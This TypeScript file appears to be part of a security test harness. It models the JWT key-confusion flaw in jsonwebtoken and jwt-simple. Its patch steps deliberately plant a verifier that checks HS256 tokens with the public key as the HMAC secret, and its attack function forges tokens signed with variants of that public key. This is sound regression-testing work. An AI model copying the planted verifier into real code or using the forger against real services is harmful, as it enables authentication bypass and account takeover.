import { createHmac, createPublicKey } from 'node:crypto'
import { attackWithForged, encode } from '../forge-token.ts'
import type { Hole } from '../hole.ts'

/** The spellings in which the public key could be taken for a secret. */
function secretsOf(publicJwk: string): readonly (string | Buffer)[] {
  const key = createPublicKey({ key: JSON.parse(publicJwk), format: 'jwk' })
  const pem = key.export({ type: 'spki', format: 'pem' }).toString()
  return [publicJwk, pem, pem.trim(), key.export({ type: 'spki', format: 'der' }), '']
}

export const jwtKeyConfusion: Hole = {
  name: 'CVE-2015-9235, CVE-2016-10555 and CVE-2022-23541, jsonwebtoken and jwt-simple',
  happened:
    'A token that said HS256 was checked with the public key as if that were a secret, and a public key is known to everybody.',
  stands: 'A key is good for ES256 alone, and so is a header; there is no shared secret in any token.',
  guards: [
    {
      file: 'crypto/signer.ts',
      find: 'import { calculateJwkThumbprint,',
      replace: "import { createHmac } from 'node:crypto'\nimport { calculateJwkThumbprint,",
    },
    {
      file: 'crypto/signer.ts',
      find: '    const kid = readKeyId(token)\n',
      replace: `    const [head = '', body = '', mark] = token.split('.')
    if (JSON.parse(Buffer.from(head, 'base64url').toString()).alg === 'HS256') {
      const hmac = createHmac('sha256', newest.publicJwk).update(head + '.' + body).digest('base64url')
      return hmac === mark ? readClaims(JSON.parse(Buffer.from(body, 'base64url').toString()), issuer) : null
    }
    const kid = readKeyId(token)
`,
    },
  ],
  attack: () =>
    attackWithForged(({ header, payload, publicJwk }) =>
      (['HS256', 'HS512'] as const).flatMap((alg) =>
        secretsOf(publicJwk).map((secret) => {
          const signed = `${encode({ ...header, alg })}.${encode(payload)}`
          const hash = alg === 'HS256' ? 'sha256' : 'sha512'
          return `${signed}.${createHmac(hash, secret).update(signed).digest('base64url')}`
        }),
      ),
    ),
}
